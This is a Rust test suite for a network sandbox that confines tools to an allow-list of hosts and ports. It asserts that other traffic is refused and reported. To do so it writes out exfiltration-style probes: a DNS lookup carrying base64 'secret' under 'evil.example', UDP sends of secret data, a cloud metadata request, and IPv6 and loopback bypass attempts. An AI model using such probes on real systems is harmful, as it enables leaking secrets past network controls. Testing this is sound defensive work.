//! What must fail, at once and by name.

use crate::namespace::Namespace;
use std::io::Write;
use std::net::{TcpListener, UdpSocket};
use std::time::{Duration, Instant};
use test_support::file_server::start_server;
use test_support::needs;

/// Python that reports how connecting ended.
const CONNECT: &str = "
import socket, errno
def tcp(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(20)
    try:
        s.connect((host, port))
        return s.recv(100).decode() or 'end'
    except socket.gaierror as error:
        return 'no such name'
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))
";

fn greeting_server() -> u16 {
    start_server(|mut stream| {
        let _ = stream.write_all(b"hello");
    })
}

#[test]
fn c_22_4_other_names_ports_and_addresses_are_refused_by_name() {
    if !needs::programs(&["/usr/bin/python3"]) {
        return;
    }
    let port = greeting_server();
    let other = greeting_server();
    let rules = [format!("listed.example {port}"), format!("localhost {port}")];
    let hosts = "127.0.0.1 listed.example\n";
    let Some(mut namespace) = Namespace::new(&rules, hosts) else { return };
    let begin = Instant::now();
    let output = namespace.python(&format!(
        "{CONNECT}
print(tcp('listed.example', {port}), tcp('listed.example', {other}), tcp('other.example', {port}))
print(tcp('93.184.216.34', 443), tcp('10.255.255.1', {port}), tcp('198.18.0.77', {port}))
print(tcp('localhost', {port}), tcp('127.0.0.1', {other}), tcp('127.0.0.1', {port}))
print(tcp('169.254.169.254', 80), tcp('93.184.216.34', 443))
"
    ));
    assert_eq!(
        output,
        "hello ECONNREFUSED no such name\nECONNREFUSED ECONNREFUSED ECONNREFUSED\n\
         hello ECONNREFUSED hello\nECONNREFUSED ECONNREFUSED"
    );
    assert!(begin.elapsed() < Duration::from_secs(10), "{:?}", begin.elapsed());
    let mut expected = vec![
        format!("10.255.255.1:{port} 1"),
        "169.254.169.254:80 1".to_owned(),
        format!("198.18.0.77:{port} 1"),
        "93.184.216.34:443 2".to_owned(),
        format!("listed.example:{other} 1"),
        "other.example 1".to_owned(),
    ];
    expected.sort();
    let report = namespace.report();
    let refused: Vec<_> =
        report.refused.iter().map(|(name, times)| format!("{name} {times}")).collect();
    assert_eq!(refused, expected);
    assert_eq!(report.attempts, 7);
    assert_eq!(report.reached[&format!("listed.example:{port}")].received, 5);
    assert_eq!(report.reached[&format!("localhost:{port}")].connections, 2);
}

#[test]
fn c_22_4_a_wildcard_lets_no_address_through() {
    if !needs::programs(&["/usr/bin/python3"]) {
        return;
    }
    let port = greeting_server();
    let Some(mut namespace) =
        Namespace::new(&[format!("*.wild.example {port}")], "127.0.0.1 a.wild.example\n")
    else {
        return;
    };
    let output = namespace.python(&format!(
        "{CONNECT}\nprint(tcp('a.wild.example', {port}), tcp('wild.example', {port}), \
         tcp('9.9.9.9', {port}), tcp('127.0.0.1', 9))"
    ));
    assert_eq!(output, "hello no such name ECONNRESET ECONNREFUSED");
    assert_eq!(namespace.refusals(), [format!("9.9.9.9:{port} 1"), "wild.example 1".to_owned()]);
}

#[test]
fn c_22_4_udp_icmp_and_ipv6_fail_at_once() {
    if !needs::programs(&["/usr/bin/python3"]) {
        return;
    }
    let outside = UdpSocket::bind("127.0.0.1:0").unwrap();
    outside.set_nonblocking(true).unwrap();
    let udp = outside.local_addr().unwrap().port();
    let Some(mut namespace) = Namespace::new(&["listed.example 443".to_owned()], "") else {
        return;
    };
    let begin = Instant::now();
    let output = namespace.python(&format!(
        "{CONNECT}
def udp(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(20)
    try:
        s.connect((host, port))
        s.send(b'secret')
        return s.recv(100).decode()
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))
def icmp(kind):
    try:
        socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
        return 'opened'
    except OSError as error:
        return errno.errorcode[error.errno]
print(udp('127.0.0.1', {udp}), udp('8.8.8.8', 123), udp(socket.gethostbyname('listed.example'), 443))
print(icmp(socket.SOCK_RAW), icmp(socket.SOCK_DGRAM))
print(tcp('2606:4700::1', 443, socket.AF_INET6), udp('2606:4700::1', 123, socket.AF_INET6))
print(tcp('::ffff:9.9.9.9', 443, socket.AF_INET6))
print(socket.has_ipv6 and len(socket.getaddrinfo('listed.example', 443, type=socket.SOCK_STREAM)))
"
    ));
    let lines: Vec<_> = output.lines().collect();
    assert_eq!(lines[0], "ECONNREFUSED ECONNREFUSED ECONNREFUSED");
    assert_eq!(lines[1], "EPERM EACCES");
    let refused = ["ECONNREFUSED", "ENETUNREACH", "EAFNOSUPPORT", "EADDRNOTAVAIL"];
    assert!(lines[2].split(' ').all(|error| refused.contains(&error)), "{output}");
    assert_eq!(lines[3..], ["ECONNREFUSED", "1"]);
    assert!(begin.elapsed() < Duration::from_secs(10), "{:?}", begin.elapsed());
    assert!(outside.recv(&mut [0; 10]).is_err(), "a datagram left the namespace");
    let refusals = namespace.refusals();
    for expected in ["8.8.8.8:123/udp 1", "9.9.9.9:443 1", "listed.example:443/udp 1"] {
        assert!(
            refusals.iter().any(|refusal| refusal == expected),
            "{expected} is not in {refusals:?}"
        );
    }
    if lines[2] == "ECONNREFUSED ECONNREFUSED" {
        let six = ["[2606:4700::1]:123/udp 1", "[2606:4700::1]:443 1"];
        assert_eq!(
            refusals.iter().filter(|it| six.contains(&it.as_str())).count(),
            2,
            "{refusals:?}"
        );
    }
}

#[test]
fn c_22_4_names_with_data_do_not_leave_the_machine() {
    if !needs::programs(&["/usr/bin/python3"]) {
        return;
    }
    let Some(mut namespace) = Namespace::new(&["*.listed.example 443".to_owned()], "") else {
        return;
    };
    let output = namespace.python(
        "
import socket, struct, threading
def query(name, kind):
    labels = b''.join(bytes([len(label)]) + label for label in name.split(b'.'))
    return struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels + b'\\0' + struct.pack('>2H', kind, 1)
def ask(name, kind, server='8.8.8.8'):
    family = socket.AF_INET6 if ':' in server else socket.AF_INET
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(20)
    try:
        s.connect((server, 53))
    except OSError:
        return 'no IPv6'
    s.send(query(name, kind))
    answer = s.recv(1500)
    return '%d/%d' % (answer[3] & 15, answer[7])
def ask_tcp(names):
    s = socket.create_connection(('8.8.4.4', 53), 20)
    for name in names:
        message = query(name, 1)
        for byte in struct.pack('>H', len(message)) + message:
            s.send(bytes([byte]))
    codes = []
    for _ in names:
        length = struct.unpack('>H', s.recv(2, socket.MSG_WAITALL))[0]
        codes.append('%d' % (s.recv(length, socket.MSG_WAITALL)[3] & 15))
    return ' '.join(codes)
print(ask(b'c2VjcmV0.evil.example', 1), ask(b'c2VjcmV0.evil.example', 16))
print(ask(b'data.listed.example', 1), ask(b'data.listed.example', 28), ask(b'data.listed.example', 16))
print(ask(b'evil.example', 1, '127.0.0.53'), ask(b'evil.example', 1, '127.0.0.1'))
print(ask(b'evil.example', 1, '2001:db8::53') in ('3/0', 'no IPv6'))
print(ask_tcp([b'x.listed.example', b'evil.example']))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(20)
s.connect(('1.1.1.1', 53))
s.send(b'\\1\\2\\0\\0\\0\\5garbage')
print(s.recv(1500)[3] & 15)
for garbage in (b'', b'x', b'\\xff' * 1400):
    s.send(garbage)
s.send(query(b'still.listed.example', 1))
print(s.recv(1500)[3] & 15)
",
    );
    let lines: Vec<_> = output.lines().collect();
    assert_eq!(lines, ["3/0 3/0", "0/1 0/0 0/0", "3/0 3/0", "True", "0 3", "1", "0"]);
    // A text record is another part of the same lookup.
    let refusals = namespace.refusals();
    assert_eq!(refusals[0], "c2vjcmv0.evil.example 1");
    let all = ["evil.example 4", "evil.example 3"];
    assert!(refusals.len() == 2 && all.contains(&refusals[1].as_str()), "{refusals:?}");
}

#[test]
fn c_22_4_a_tool_serves_and_connects_inside_of_its_namespace() {
    if !needs::programs(&["/usr/bin/python3"]) {
        return;
    }
    let port = greeting_server();
    let Some(mut namespace) = Namespace::new(&[format!("listed.example {port}")], "") else {
        return;
    };
    let output = namespace.python(&format!(
        "
import socket
for host in ('127.0.0.1', '::1'):
    server = socket.create_server((host, {port}), family=socket.AF_INET6 if ':' in host else socket.AF_INET)
    client = socket.create_connection((host, {port}))
    server.accept()[0].send(b'mine')
    print(client.recv(10).decode())
"
    ));
    assert_eq!(output, "mine\nmine");
    assert_eq!(namespace.report(), delta_sandbox::NetworkReport::default());
}

#[test]
fn c_22_4_a_name_that_leads_to_this_machine_is_not_followed() {
    if !needs::programs(&["/usr/bin/python3"]) {
        return;
    }
    // Resolved by the C library, not by the table of the test: as a name that its owner points here.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let Ok(name) = std::fs::read_to_string("/proc/sys/kernel/hostname") else { return };
    let name = name.trim().to_lowercase();
    let leads_here = std::net::ToSocketAddrs::to_socket_addrs(&(name.as_str(), port))
        .is_ok_and(|mut all| all.any(|address| address.ip().is_loopback()));
    if !leads_here {
        println!(
            "the name of this machine is not one of its loopback: a unit test has the addresses"
        );
        return;
    }
    let Some(mut namespace) = Namespace::new(&[format!("{name} {port}")], "") else { return };
    let output = namespace.python(&format!(
        "
import socket
try:
    print(socket.create_connection(('198.18.0.2', {port}), 20).recv(10))
except OSError as error:
    print(type(error).__name__)
"
    ));
    assert_eq!(output, "ConnectionResetError");
    let report = namespace.report();
    let failure = &report.failed[&format!("{name}:{port}")];
    assert!(failure.error.contains("is one of this machine"), "{failure:?}");
    assert!(report.reached.is_empty());
}
